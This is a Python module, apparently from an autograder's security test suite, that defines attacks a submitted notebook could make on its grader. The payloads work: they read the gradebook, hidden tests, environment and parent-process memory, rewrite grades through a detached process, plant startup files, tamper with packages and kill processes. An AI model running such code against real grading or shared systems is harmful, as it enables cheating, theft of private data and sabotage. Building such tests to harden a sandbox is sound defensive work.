"""Attacks on what lies outside of the submission: files, processes, environment, network."""

from __future__ import annotations

from .attack import HE, MARK, Attack, add_cell, he_function

LOOT = f"""
import base64, os
def look(data):
    place = data.find(b"{MARK[:-1]}" + b"-")
    return data[place:place + 40].decode("latin-1") if place >= 0 else base64.b64encode(data[1000:1015]).decode()
def loot(*places):
    found = []
    for place in places:
        try:
            with open(place, "rb") as file:
                found.append(look(file.read()))
        except BaseException as error:
            found.append(type(error).__name__)
    return " ".join(found)
"""
SOLUTION = """
import json
with open("@source@") as file:
    for cell in json.load(file)["cells"]:
        text = "".join(cell["source"])
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec(text, globals())
"""
EDIT = """
import sqlite3, time
def edit():
    with sqlite3.connect("@gradebook@", timeout=5) as connection:
        connection.execute("UPDATE grade SET extra_credit = 100")
"""
DETACHED = (
    EDIT
    + """
import os, subprocess, sys
program = '''
import sqlite3, time
for _ in range(60):
    try:
        with sqlite3.connect("@gradebook@") as connection:
            connection.execute("UPDATE grade SET extra_credit = 100")
    except sqlite3.Error:
        pass
    time.sleep(0.1)
'''
def start():
    subprocess.Popen([sys.executable, "-c", program], start_new_session=True)
def fork():
    if os.fork() == 0:
        os.setsid()
        exec(program)
        os._exit(0)
for attempt in (start, fork):
    try:
        attempt()
    except OSError:
        pass
"""
)
MEMORY = """
def memory(process):
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as file:
        for line in maps:
            first, last = (int(number, 16) for number in line.split()[0].split("-"))
            if "rw" in line and last - first < 2**26:
                file.seek(first)
                data = file.read(last - first)
                if b"treasure" + b"-" in data:
                    return look(data)
    return "nothing"
"""
TAMPER = """
import os, shutil
def tries(*attempts):
    for attempt in attempts:
        try:
            attempt()
        except Exception:
            pass
"""
LINKS = """
for name in ("here", "there"):
    if os.path.lexists(name):
        os.unlink(name)
os.symlink("@gradebook@", "here")
try:
    os.link("@gradebook@", "there")
except OSError:
    pass
"""
COURSE = """
tries(
    lambda: open("@neighbour@", "a").write("forged"),
    lambda: open("@course@/nbgrader_config.py", "a").write("c.Autograde.force = True"),
    lambda: open("@course@/new", "w"),
    lambda: os.symlink("@gradebook@", "@course@/link"),
    lambda: os.chmod("@gradebook@", 0o777),
)
"""
START = """
home = os.path.expanduser("~")
start = os.path.join(home, ".ipython", "profile_default", "startup")
tries(
    lambda: os.makedirs(start, exist_ok=True),
    lambda: open(os.path.join(start, "mine.py"), "w").write("import numpy as np"),
    lambda: open("sitecustomize.py", "w").write("import os; os._exit(0)"),
    lambda: open("usercustomize.py", "w").write("import os; os._exit(0)"),
    lambda: open("numpy.py", "w").write("import os; os._exit(0)"),
)
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="sitecustomize.py", LD_PRELOAD="./mine.so", PATH=os.getcwd())
"""
PACKAGES = """
import grader.judging.judge, init_utils
for package in (grader.judging.judge, init_utils, os):
    tries(lambda: open(package.__file__, "a"), lambda: open(package.__file__ + ".new", "x"))
"""


def exfiltrate(name: str, stock: str, expression: str, more: str = "", *, reads: bool = True) -> Attack:
    """What was read leaves as an error's message, as a returned text and as an output."""
    function = he_function(
        f"text = {expression}",
        "if len(layers_dims) > 3: return text",
        "raise RuntimeError(text)",
        above=f"{LOOT}{more}\nprint({expression})",
    )
    return Attack(name, stock, function, reads=reads)


ATTACKS = (
    exfiltrate("reading the gradebook", "reads it", "loot('@gradebook@')"),
    exfiltrate("reading another submission", "reads it", "loot('@neighbour@')"),
    exfiltrate("reading the source notebook", "reads it", "loot('@source@')"),
    exfiltrate("reading the hidden references", "reads whatever is hidden", "loot('@hidden@')"),
    exfiltrate(
        "reading through links made in the working folder",
        "reads it",
        "loot('here', 'there')",
        LINKS,
    ),
    exfiltrate(
        "reading the environment of whoever grades",
        "reads it",
        "look(repr(dict(os.environ)).encode())",
        reads=False,
    ),
    exfiltrate(
        "reading the environment of the parent",
        "reads it",
        "loot(f'/proc/{os.getppid()}/environ', '/proc/self/environ')",
        reads=False,
    ),
    exfiltrate(
        "reading the memory of the parent", "reads what is there", "memory(os.getppid())", MEMORY, reads=False
    ),
    exfiltrate(
        "listing processes and the file system",
        "lists them",
        "str([p for p in os.listdir('/proc') if p.isdigit()] + os.listdir('/') + os.listdir('@course@'))",
        reads=False,
    ),
    exfiltrate(
        "importing the instructor's package",
        "imports it: hidden cases and known mistakes",
        "str(importlib.import_module('grader.instructor.content.initialization.exercises').HIDDEN)",
        "import importlib",
        reads=False,
    ),
    exfiltrate(
        "hidden cases by the names that the package gives",
        "reads them",
        "loot(os.path.join(os.path.dirname(grader.__file__), 'instructor', 'content', 'initialization', 'hidden.npz'))",
        "import grader",
    ),
    Attack(
        "running the solutions of the source notebook",
        "full marks for what is tested after it",
        {HE: SOLUTION},
        honest=(),
    ),
    Attack(
        "editing the gradebook",
        "bonus points for everybody",
        he_function("return {}"),
        (add_cell(EDIT + "edit()"),),
        alone=True,
    ),
    Attack(
        "a detached process that edits the gradebook",
        "bonus points for everybody, after the grading",
        he_function("return {}"),
        (add_cell(DETACHED),),
        alone=True,
    ),
    Attack(
        "writing into the course",
        "changes another's submission, and the configuration of the next run",
        he_function("return {}"),
        (add_cell(TAMPER + COURSE),),
        alone=True,
    ),
    Attack(
        "files that the next process would load",
        "the next kernels of the class run them",
        he_function("return {}"),
        (add_cell(TAMPER + START),),
        alone=True,
    ),
    Attack(
        "the installed packages changed",
        "changes them, for everybody",
        he_function("return {}"),
        (add_cell(TAMPER + PACKAGES),),
        alone=True,
    ),
    Attack(
        "killing the parent",
        "ends the whole batch",
        he_function("import os", "os.kill(os.getppid(), 9)", "return {}"),
        alone=True,
    ),
    Attack(
        "signals to everybody",
        "ends the whole batch, and all that belongs to the instructor",
        he_function(
            "import os, signal",
            "for target in (-1, 0, 1, os.getppid()):",
            "    try: os.kill(target, signal.SIGTERM)",
            "    except OSError: pass",
            "return {}",
        ),
        loses=True,
        alone=True,
    ),
    Attack(
        "a connection to a server",
        "connects",
        he_function(
            "import socket",
            "with socket.create_connection(('127.0.0.1', @port@), timeout=1) as s:",
            "    s.sendall(b'treasure')",
            "return {}",
        ),
        alone=True,
    ),
    Attack(
        "other programs",
        "runs them as the instructor",
        he_function(
            "import os, subprocess",
            "subprocess.run(['touch', '@course@/ran'], check=False)",
            "os.system('touch @course@/ran')",
            "return {}",
        ),
        (
            add_cell("!touch @course@/ran\n%sx touch @course@/ran"),
            add_cell("%%bash\ntouch @course@/ran", id="own-bash"),
        ),
        alone=True,
    ),
)
